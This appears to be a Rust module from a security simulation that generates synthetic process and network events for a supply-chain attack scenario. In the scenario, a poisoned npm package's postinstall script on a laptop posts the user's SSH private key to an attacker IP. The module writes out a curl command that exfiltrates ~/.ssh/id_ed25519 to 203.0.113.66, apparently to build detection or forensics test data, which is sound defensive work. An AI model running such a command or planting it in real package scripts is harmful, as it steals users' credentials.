//! Day L on the laptop: the poisoned dependency that leaks alice's SSH key.

use super::super::sim::{LAPTOP, MS, SEC, Sim};
use super::super::truth::*;
use super::*;
use crate::demo::sim::Side::Connect;
use crate::store::StoreError;

/// Day L: `npm install` on the laptop runs a malicious postinstall that posts alice's SSH key
/// to the attacker.
pub(crate) fn laptop_leak(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
    let h = LAPTOP;
    let shell = sim.daemon(h, "gnome-shell");
    let t = day + at(10, 14, 40, 0);
    let term = sim.spawn(
        h,
        &shell,
        t,
        None,
        "/usr/libexec/gnome-terminal-server",
        &["/usr/libexec/gnome-terminal-server"],
        ALICE,
        "/home/alice",
    )?;
    let bash = sim.spawn(
        h,
        &term,
        t + 300 * MS,
        None,
        "/usr/bin/bash",
        &["bash"],
        ALICE,
        "/home/alice/src/shop-web",
    )?;
    let cwd = "/home/alice/src/shop-web";
    let npm = sim.spawn(
        h,
        &bash,
        day + at(10, 15, 1, 0),
        None,
        "/usr/bin/node",
        &["npm", "install"],
        ALICE,
        cwd,
    )?;
    let pkg = "/home/alice/src/shop-web/node_modules/colorz-utils";
    sim.write_file(
        h,
        &npm,
        day + at(10, 15, 2, 0),
        None,
        &format!("{pkg}/package.json"),
        None,
    )?;
    sim.write_file(
        h,
        &npm,
        day + at(10, 15, 2, 100),
        None,
        &format!("{pkg}/scripts/postinstall.js"),
        None,
    )?;
    let sh = sim.spawn(
        h,
        &npm,
        day + at(10, 15, 2, 900),
        None,
        "/bin/sh",
        &["sh", "-c", "node scripts/postinstall.js"],
        ALICE,
        pkg,
    )?;
    let node = sim.spawn(
        h,
        &sh,
        day + at(10, 15, 3, 0) - 500_000,
        None,
        "/usr/bin/node",
        &["node", "scripts/postinstall.js"],
        ALICE,
        pkg,
    )?;
    let sh2 = sim.spawn(
        h,
        &node,
        day + at(10, 15, 9, 0) - 600_000,
        None,
        "/bin/sh",
        &[
            "/bin/sh",
            "-c",
            "curl -s -X POST --data-binary @/home/alice/.ssh/id_ed25519 https://203.0.113.66/k",
        ],
        ALICE,
        pkg,
    )?;
    let curl = sim.spawn(
        h,
        &sh2,
        day + at(10, 15, 9, 0) - 300_000,
        None,
        "/usr/bin/curl",
        &[
            "curl",
            "-s",
            "-X",
            "POST",
            "--data-binary",
            "@/home/alice/.ssh/id_ed25519",
            "https://203.0.113.66/k",
        ],
        ALICE,
        pkg,
    )?;
    let end = sim.tcp(
        Connect,
        h,
        &curl,
        day + at(10, 15, 9, 40),
        None,
        LAPTOP_IP,
        50_514,
        ATTACKER_IP,
        443,
        380 * MS,
        (411, 120),
    )?;
    sim.exit(h, &curl, end + MS, None, 0)?;
    sim.exit(h, &sh2, end + 2 * MS, None, 0)?;
    sim.exit(h, &node, end + 40 * MS, None, 0)?;
    sim.exit(h, &sh, end + 41 * MS, None, 0)?;
    sim.write_file(
        h,
        &npm,
        end + 2 * SEC,
        None,
        "/home/alice/src/shop-web/package-lock.json",
        None,
    )?;
    sim.exit(h, &npm, end + 3 * SEC, None, 0)?;
    Ok(())
}
